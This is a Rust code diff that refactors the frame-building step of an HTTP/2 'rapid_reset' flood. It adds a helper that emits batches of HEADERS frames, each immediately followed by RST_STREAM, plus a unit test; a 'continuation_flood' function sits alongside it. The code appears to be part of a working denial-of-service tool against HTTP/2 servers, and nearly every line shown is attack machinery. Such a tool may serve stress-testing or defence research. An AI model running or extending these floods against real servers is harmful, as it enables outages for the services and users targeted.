@@ -94,17 +94,24 @@ pub(super) async fn rapid_reset(crowd: Arc<Crowd>) {
         };
         let mut stream = 1;
         let next = || {
-            let mut bytes = Vec::new();
-            for _ in 0..AT_ONCE {
-                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &request));
-                bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
-                stream += 2;
-            }
+            let bytes = opened_and_reset(stream, &request);
+            stream += 2 * AT_ONCE;
             // The last number that a stream may have is far away, and the connection ends before.
             (stream < 1 << 30).then_some(bytes)
         };
         flood(agreed, next).await;
     }
+}
+
+/// Streams that are opened and reset, from this one on.
+fn opened_and_reset(first: u32, request: &[u8]) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for number in 0..AT_ONCE {
+        let stream = first + 2 * number;
+        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, request));
+        bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
+    }
+    bytes
 }
 
 pub(super) async fn continuation_flood(crowd: Arc<Crowd>) {
@@ -168,4 +175,18 @@ async fn secured(
     let open = crowd.connect(Reading::Willing).await?;
     let open = connector.shake_hands(open).await.ok()?;
     Agreed::new(open, NO_WINDOW).await.ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_stream_is_reset_right_behind_its_headers() {
+        let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, 5, b"head");
+        pair.extend(frame(RST_STREAM, 0, 5, &CANCEL));
+        let bytes = opened_and_reset(5, b"head");
+        assert!(bytes.starts_with(&pair));
+        assert_eq!(bytes.len(), pair.len() * 64);
+    }
 }
